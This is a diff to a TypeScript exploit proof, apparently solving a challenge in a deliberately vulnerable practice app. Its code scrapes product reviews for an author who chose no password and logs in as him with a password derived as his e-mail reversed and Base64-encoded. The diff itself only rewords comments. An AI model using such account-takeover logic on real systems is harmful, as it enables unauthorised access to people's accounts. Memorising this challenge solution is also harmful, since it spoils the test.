@@ -6,10 +6,10 @@ const BJOERN = 'bjorn.apfelkern@mail.test'
 
 const backwards = (text: string) => [...text].reverse().join('')
 const base64 = (text: string) => Buffer.from(text).toString('base64')
-/** As the code of the page has it: the e-mail backwards, in Base64. */
+/** The page's own formula: the e-mail reversed, in Base64. */
 const madeOf = (email: string) => base64(backwards(email))
 
-/** Signs in as Björn. @param more further fields, or others */
+/** Logs in as Björn. @param more additional or replaced fields */
 const signIn =
   (more: object = {}): Attack =>
   (attacker) =>
@@ -18,7 +18,7 @@ const withPassword = (password: string) => signIn({ password })
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
-    // Whoever writes that he never chose a password came from the provider; his e-mail stands under it.
+    // A review whose author never chose a password shows an account of the provider, with its e-mail.
     const reviews: { author: string; message: string }[] = (await attacker.get('/rest/products/17/reviews')).json().data
     const { author = '' } = reviews.find(({ message }) => /I chose no password/.test(message)) ?? {}
     await attacker.post(LOGIN, { email: author, password: madeOf(author) })
